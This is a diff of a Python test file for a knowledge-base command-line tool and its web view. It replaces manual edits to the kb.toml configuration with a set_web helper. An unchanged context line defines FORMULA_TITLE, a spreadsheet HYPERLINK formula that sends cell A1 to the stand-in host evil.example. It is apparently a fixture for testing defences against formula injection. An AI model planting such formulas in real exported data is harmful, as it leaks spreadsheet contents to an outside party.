@@ -28,7 +28,7 @@ from kb.app.knowledge_base import KnowledgeBase
 from kb.cli import cli
 from kb.core.toml_text import without_table
 
-from .helpers import entry_text
+from .helpers import entry_text, set_web
 
 AUTHOR = "anna.andersson@malmo.se"
 FORMULA_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka här")'
@@ -275,8 +275,7 @@ def authored_kb(kb_root, publish: bool | None):
         {"id": "anna-skrev", "title": "Kapacitetsbesked före beställning", "area": "mobilitet",
          "date": "2026-04-04", "type": "lesson", "author": AUTHOR, "source": "formuläret"}), encoding="utf-8")
     if publish is not None:
-        with (kb_root / "kb.toml").open("a", encoding="utf-8") as handle:
-            handle.write(f"\n[web]\npublish_authors = {str(publish).lower()}\nsql = \"all\"\n")
+        set_web(kb_root, publish_authors=publish, sql="all")
     assert invoke("index", "-q", "--root", str(kb_root)).exit_code == 0
     return make_datasette(kb_root)
 
@@ -328,7 +327,6 @@ def test_an_index_from_before_gets_its_author_column_without_re_embedding(kb_roo
 
 
 def test_web_settings_are_checked(kb_root):
-    toml = kb_root / "kb.toml"
-    toml.write_text(toml.read_text(encoding="utf-8") + '\n[web]\nsql = "everyone"\n', encoding="utf-8")
+    set_web(kb_root, sql="everyone")
     result = invoke("validate", "--root", str(kb_root))
     assert result.exit_code == 1 and "[web] sql = 'everyone' is not one of all, signed-in, off" in result.output
